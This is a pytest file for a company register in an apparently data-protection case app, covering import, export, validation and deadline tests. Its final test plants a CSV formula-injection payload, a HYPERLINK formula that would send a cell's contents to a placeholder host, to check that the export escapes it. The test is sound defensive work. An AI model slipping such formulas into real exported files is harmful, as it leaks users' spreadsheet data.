"""The company register: shipped entries, JSON and CSV round trips, checked imports."""

import json

import pytest

from desktop.core.errors import ValidationError


def test_shipped_register_has_the_seed_and_marked_samples(services):
    companies = {c.id: c for c in services.register.companies()}
    se = companies["hoffmann-se"]
    assert se.address.street == "Haberlandstr. 55" and se.address.postcode == "81241"
    assert se.dpo_email == "dataprotection@hoffmann-group.com" and not se.is_sample
    assert se.calendar.categories == ("public", "catholic")
    for country in ("NL", "BE", "AT", "CH", "GB", "FR"):
        matches = [c for c in companies.values() if country in c.countries]
        assert matches and all(c.is_sample for c in matches)
    assert companies["hoffmann-nl"].calendar.categories == ("public", "optional")


@pytest.mark.parametrize("suffix", [".json", ".csv"])
def test_export_and_import_round_trip(services, tmp_path, suffix):
    path = tmp_path / f"register{suffix}"
    assert services.register.export_file(path) == 7
    before = [c.to_dict() for c in services.register.companies()]
    services.register.import_file(path)
    assert [c.to_dict() for c in services.register.companies()] == before
    assert services.register.version_of("hoffmann-se") == 1  # unchanged data, no new version


def test_import_is_checked_entry_by_entry_before_anything_is_saved(services, tmp_path):
    data = {"companies": [c.to_dict() for c in services.register.companies()]}
    data["companies"][0]["name"] = "Renamed SE"
    data["companies"][3]["countries"] = ["Austria"]
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(data))
    with pytest.raises(ValidationError) as err:
        services.register.import_file(path)
    assert err.value.path == ("entries", 4, "countries")
    assert err.value.field == "entries.4.countries"  # as the command line prints it
    assert services.register.company("hoffmann-se").name == "Hoffmann SE"


def test_import_refuses_other_files(services, tmp_path):
    path = tmp_path / "x.txt"
    path.write_text("hello")
    with pytest.raises(ValidationError, match="json or .csv"):
        services.register.import_file(path)
    path = tmp_path / "x.json"
    path.write_text("{not json")
    with pytest.raises(ValidationError, match="not valid JSON"):
        services.register.import_file(path)


def test_dpo_email_and_letter_languages_are_checked(services):
    data = services.register.company("hoffmann-nl").to_dict()
    with pytest.raises(ValidationError) as err:
        services.register.save(data | {"dpo_email": "not-an-email"})
    assert err.value.field == "dpo_email"
    with pytest.raises(ValidationError) as err:
        services.register.save(data | {"languages": ["nl", "fr"]})
    assert err.value.field == "languages"


@pytest.mark.parametrize("suffix", [".json", ".csv"])
def test_the_letterhead_fields_travel_with_the_register(services, tmp_path, suffix):
    """Issue 11, defect 8: register court and number, board, chair, KvK number, legal form."""
    se = services.register.company("hoffmann-se").to_dict()
    services.register.save(
        se | {"register_court": "Amtsgericht München", "register_number": "HRB 123456",
              "directors": ["Dr. Anna Beispiel, LL.M.", "Bernd Muster"],
              "supervisory_board_chair": "Carla Probe", "one_tier_board": True}
    )  # fmt: skip
    nl = services.register.company("hoffmann-nl").to_dict()
    services.register.save(nl | {"kvk_number": "30123456", "legal_form": "B.V."})
    before = [c.to_dict() for c in services.register.companies()]
    path = tmp_path / f"register{suffix}"
    services.register.export_file(path)
    services.register.import_file(path)
    assert [c.to_dict() for c in services.register.companies()] == before
    assert services.register.version_of("hoffmann-se") == 2  # the import changed nothing


def test_an_older_register_file_without_the_letterhead_fields_loads(services, tmp_path):
    old = [
        {k: v for k, v in c.to_dict().items() if k not in (
            "legal_form", "register_court", "register_number", "directors",
            "supervisory_board_chair", "one_tier_board", "kvk_number",
        )}
        for c in services.register.companies()
    ]  # fmt: skip
    path = tmp_path / "old.json"
    path.write_text(json.dumps({"companies": old}), encoding="utf-8")
    services.register.import_file(path)
    se = services.register.company("hoffmann-se")
    assert se.directors == () and se.register_court == "" and not se.one_tier_board


def test_a_holiday_added_by_decree_moves_the_running_deadlines_and_says_so(services):
    """Issue 11: running deadlines follow a changed calendar; closed cases keep theirs."""
    from desktop.services.cases import CaseDraft, Requester

    def log(received):
        return services.cases.log_case(
            CaseDraft(channel="letter", received=received, types=["access"],
                      requester=Requester(name="Anna Schmidt", language="de")),
        ).id  # fmt: skip

    running, closed = log("2026-11-02"), log("2026-11-03")
    services.cases.close(closed, {"access": "no-data"})
    due = services.cases.case_file(running)["due"]
    assert due == "2026-12-02"
    closed_due = services.cases.case_file(closed)["due"]
    entry = services.register.company("hoffmann-se").to_dict()
    entry["calendar_extra_dates"] = ["2026-12-02"]
    services.register.save(entry)
    case = services.cases.case_file(running)
    assert case["due"] == "2026-12-03"  # the day off by decree is skipped
    moved = [a for a in case["audit"] if a["action"] == "deadline-recomputed"]
    assert moved and moved[0]["detail"]["changes"]["due"] == ["2026-12-02", "2026-12-03"]
    assert "calendar" in moved[0]["detail"]["reason"]
    assert services.cases.case_file(closed)["due"] == closed_due
    services.cases.extend(running, "Many systems")  # computed again: the new calendar stays
    assert services.cases.case_file(running)["due"] == "2026-12-03"


def test_the_register_csv_opens_as_text_in_a_spreadsheet_and_reads_back(services, tmp_path):
    nl = services.register.company("hoffmann-nl").to_dict()
    planted = '=HYPERLINK("http://x/?"&A2,"x")'
    services.register.save(nl | {"name": planted})
    path = tmp_path / "register.csv"
    services.register.export_file(path)
    text = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    assert "'+31 30 000 00 00" in text  # a phone number too: a spreadsheet computes "+31 30 …"
    before = [c.to_dict() for c in services.register.companies()]
    services.register.import_file(path)
    assert [c.to_dict() for c in services.register.companies()] == before
    assert services.register.company("hoffmann-nl").name == planted
